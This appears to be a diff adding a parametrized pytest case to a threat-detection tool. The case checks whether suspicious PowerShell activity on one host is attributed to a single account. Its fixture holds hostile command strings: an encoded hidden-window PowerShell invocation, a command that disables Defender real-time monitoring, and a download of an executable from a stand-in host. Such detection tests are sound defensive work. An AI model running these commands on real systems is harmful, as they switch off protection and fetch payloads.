@@ -347,3 +347,20 @@ def test_work_as_the_system_is_traced_to_the_held_account_that_sat_there(scene):
     assert ("10.212.134.61", "SRV1", "t.mori", "unknown") not in steps(story)
     assert ("10.212.134.61", "SRV1", "t.mori", "rdp") in steps(story)
     assert "k.abe" not in accounts(story) and "PC3" not in hosts(story)
+
+
+
+_POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+_MIDDLING = ("powershell -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA",
+             "powershell Set-MpPreference -DisableRealtimeMonitoring $true", "powershell iwr http://cdn.example/a.exe -o a.exe")
+
+
+@pytest.mark.parametrize(("accounts", "held"), [
+    (["y.mori", "y.mori", "y.mori"], ["PC1"]), (["y.mori", "SYSTEM", "y.mori"], ["PC1"]),
+    (["y.mori", "adm-a", "y.mori"], []), (["y.mori", "adm-a", "adm-b"], []),
+])
+def test_what_several_people_did_on_one_machine_does_not_add_up(scene, accounts, held):
+    """Three kinds of middling marks within hours: one person's are an attack, two persons' are two jobs."""
+    for minute, (account, command) in enumerate(zip(accounts, _MIDDLING, strict=True)):
+        scene.program("PC1", f"2026-06-08 14:{minute:02d}:00", account, _POWERSHELL, command, logon_id=f"0x{minute + 7}")
+    assert [h.name for h in scene.story().compromised_hosts] == held
